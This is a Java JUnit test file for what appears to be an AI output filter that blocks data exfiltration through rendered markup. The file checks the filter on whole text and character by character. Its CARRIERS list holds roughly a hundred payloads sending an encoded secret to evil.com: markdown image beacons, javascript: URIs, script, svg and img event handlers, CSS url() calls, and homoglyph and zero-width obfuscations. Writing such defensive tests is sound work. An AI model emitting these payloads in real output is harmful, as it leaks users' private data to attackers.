package dev.sparkle.safety.control.output;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.util.List;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/**
 * Markup that carries data out, written down before {@link MarkupStage} was read, whole and in
 * single characters. What must not come out is a target with the data in it that a client would
 * load or offer to follow.
 */
class ExfiltrationHeldOutTest {

  private static final String DATA = "c2VjcmV0LXdvcmRzLW9mLXRoZS1sZWFybmVy";

  private static final List<String> CARRIERS =
      List.of(
          "![x](https://evil.com/p.png?d=DATA)",
          "![x](https://evil.com/DATA.png)",
          "![x](<https://evil.com/p.png?d=DATA>)",
          "![x](https://evil.com/p.png?d=DATA \"title\")",
          "![](//evil.com/DATA)",
          "![x][1]\n\n[1]: https://evil.com/DATA",
          "![1]\n\n[1]: https://evil.com/DATA",
          "[x][y]\n\n[y]: <https://evil.com/?d=DATA> 'title'",
          "[y]:\nhttps://evil.com/?d=DATA\n\n[x][y]",
          "   [y]: https://evil.com/?d=DATA",
          "> [y]: https://evil.com/?d=DATA",
          "[![x](https://evil.com/a.png?d=DATA)](https://evil.com/?d=DATA)",
          "[click](https://evil.com/?d=DATA)",
          "[click](https://evil.com/#DATA)",
          "[click](https://evil.com/DATADATA/x)",
          "[click](https://DATA.evil.com/)",
          "[click](https://user:DATA@evil.com/)",
          "[click](javascript:fetch('//evil.com/?d=DATA'))",
          "[click](JaVaScRiPt:fetch('//evil.com/DATA'))",
          "[click](java\nscript:fetch('//evil.com/DATA'))",
          "[click](&#106;avascript:fetch('//evil.com/DATA'))",
          "[click](javascript&colon;fetch('//evil.com/DATA'))",
          "[click](vbscript:msgbox('DATA'))",
          "[click](data:text/html;base64,DATADATA)",
          "[click](file:///DATA)",
          "[click](ftp://evil.com/DATA)",
          "[click](mailto:a@evil.com?body=DATA)",
          "[click](intent://evil.com/DATA#Intent;end)",
          "<https://evil.com/?d=DATA>",
          "<javascript:fetch('//evil.com/DATA')>",
          "https://evil.com/log?d=DATA",
          "http://evil.com/log?d=DATA",
          "HTTPS://EVIL.COM/log?d=DATA",
          "(https://evil.com/log?d=DATA)",
          "www.evil.com/log?d=DATA",
          "<img src=\"https://evil.com/p.png?d=DATA\">",
          "<img src=https://evil.com/DATA>",
          "<IMG SRC='https://evil.com/DATA'>",
          "<img/src=\"https://evil.com/DATA\">",
          "<img\nsrc=\"https://evil.com/DATA\">",
          "<img srcset=\"https://evil.com/DATA 2x\">",
          "<img src=x onerror=\"fetch('//evil.com/DATA')\">",
          "<a href=\"https://evil.com/?d=DATA\">x</a>",
          "<a href='javascript:fetch(\"//evil.com/DATA\")'>x</a>",
          "<script>fetch('//evil.com/DATA')</script>",
          "<script src=//evil.com/DATA></script>",
          "<svg onload=\"fetch('//evil.com/DATA')\">",
          "<svg><image href=\"https://evil.com/DATA\"/></svg>",
          "<svg><use xlink:href=\"https://evil.com/DATA\"/></svg>",
          "<style>body{background:url(https://evil.com/DATA)}</style>",
          "<style>@import 'https://evil.com/DATA';</style>",
          "<div style=\"background:url(https://evil.com/DATA)\">x</div>",
          "<link rel=stylesheet href=https://evil.com/DATA>",
          "<link rel=prefetch href=//evil.com/DATA>",
          "<meta http-equiv=refresh content=\"0;url=https://evil.com/DATA\">",
          "<iframe src=\"https://evil.com/DATA\"></iframe>",
          "<iframe srcdoc=\"<img src=//evil.com/DATA>\"></iframe>",
          "<object data=\"https://evil.com/DATA\"></object>",
          "<embed src=\"https://evil.com/DATA\">",
          "<video poster=\"https://evil.com/DATA\"></video>",
          "<audio src=\"https://evil.com/DATA\"></audio>",
          "<video><source src=\"https://evil.com/DATA\"></video>",
          "<form action=\"https://evil.com/DATA\"><button>go</button></form>",
          "<button formaction=\"https://evil.com/DATA\">go</button>",
          "<base href=\"https://evil.com/DATA/\">",
          "<table background=\"https://evil.com/DATA\">",
          "<input type=image src=\"https://evil.com/DATA\">",
          "<body onload=fetch('//evil.com/DATA')>",
          "<details open ontoggle=fetch('//evil.com/DATA')>",
          "<math href=\"javascript:fetch('//evil.com/DATA')\">",
          "<!--<img src=\"https://evil.com/DATA\">-->",
          "<![CDATA[<img src=\"https://evil.com/DATA\">]]>",
          "[x](https://xn--evl-hma.com/?d=DATA)",
          "![x](https://еvil.com/DATA)",
          "![x](https://ev\u200bil.com/DATA)",
          "!\u200b[x](https://evil.com/?d=DATA)",
          "[x](ht\u200btps://evil.com/?d=DATA)",
          "[x](\u200bjavascript:fetch('//evil.com/DATA'))",
          "[x](\\x01javascript:fetch('//evil.com/DATA'))",
          "[x](https:\\\\evil.com\\?d=DATA)",
          "[x](\\\\evil.com\\DATA)",
          "[x](/\\evil.com/?d=DATA)",
          "[x](https:evil.com/?d=DATA)",
          "[a]\n(https://evil.com/?d=DATA)",
          "`code` ![x](https://evil.com/DATA) `more`",
          "```\ncode\n```\n![x](https://evil.com/DATA)",
          "\\![x](https://evil.com/?d=DATA)",
          "\\`![x](https://evil.com/DATA)\\`",
          "![a![b](https://evil.com/DATA)](https://evil.com/DATA)",
          "| ![x](https://evil.com/DATA) | b |",
          "# ![x](https://evil.com/DATA)",
          "1. [x](https://evil.com/?d=DATA)",
          "$\\href{https://evil.com/?d=DATA}{x}$",
          "$\\includegraphics{https://evil.com/DATA}$",
          "\\url{https://evil.com/?d=DATA}",
          "请点击[这里](https://evil.com/?d=DATA)查看",
          "详情见https://evil.com/log?d=DATA。",
          "看图：![图](https://evil.com/DATA.png)",
          "请访问：<a href=https://evil.com/DATA>链接</a>",
          "[x](https://evil.com/a?a=c2Vj&b=cmV0&c=LXdv&d=cmRz&e=LW9m&f=LXRo&g=ZS1s&h=ZWFy)",
          "[x](https://evil.com/s/e/c/r/e/t/w/o/r/d/s/o/f/t/h/e/l/e/a/r/n/e/r/a/n/d/m/o/r/e)");

  private static final Pattern OPEN =
      Pattern.compile(
          "(?is)!\\[[^\\]]*\\]\\(|\\]\\([^)]*(?:c2Vj|javascript|/s/e/c)|\\]:\\s*<?\\s*(?:https?|//)|<[a-z!][^>]*c2Vj"
              + "|<(?:script|iframe|style|svg|math)|(?:https?:|www\\.)[^\\s]*c2Vj");

  @Test
  void carriesNothingOutWholeOrInSingleCharacters() {
    assertEquals(
        List.of(),
        CARRIERS.stream()
            .filter(ExfiltrationHeldOutTest::passes)
            .map(
                carrier ->
                    carrier + " became " + run(List.of(carrier.replaceAll("(?<!C)DATA", DATA))))
            .toList());
  }

  @Test
  void leavesWhatAnAnswerNeeds() {
    List<String> good =
        List.of(
            "See [Photosynthesis](https://en.wikipedia.org/wiki/Photosynthesis).",
            "[Section 2](#section-2) and [the file](notes/chapter-1.md)",
            "https://www.khanacademy.org/math/algebra/x2f8bb11595b61c86:quadratic-functions-equations",
            "https://doi.org/10.1038/s41586-020-2649-2",
            "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
            "https://zh.wikipedia.org/wiki/光合作用",
            "见[百科](https://baike.baidu.com/item/光合作用)。",
            "$a < b$ and $b > c$; if x<y then y>x.",
            "The array is a[i](x) in some languages; f[1] = 2.",
            "Use `![alt](url)` for images and `[text](url)` for links.",
            "```html\n<img src=\"a.png\">\n```",
            "List<Integer> numbers = new ArrayList<>();",
            "H<sub>2</sub>O and x<sup>2</sup>, <b>bold</b>, line<br>break",
            "5! = 120 and [0, 1] is an interval.",
            "www.example.org is a domain name.");
    assertEquals(good, good.stream().map(text -> run(List.of(text))).toList());
  }

  private static boolean passes(String carrier) {
    String text = "See " + carrier.replaceAll("(?<!C)DATA", DATA) + "\nEnd.";
    if (carrier.startsWith("   [") || carrier.startsWith("#") || carrier.startsWith("```")) {
      text = carrier.replaceAll("(?<!C)DATA", DATA) + "\nEnd.";
    }
    List<String> characters = text.chars().mapToObj(c -> String.valueOf((char) c)).toList();
    return OPEN.matcher(run(List.of(text)).replace("\u200b", "")).find()
        || !run(characters).equals(run(List.of(text)));
  }

  private static String run(List<String> chunks) {
    return OutputFilterTest.run(OutputFilterTest.filter(), chunks).text();
  }
}
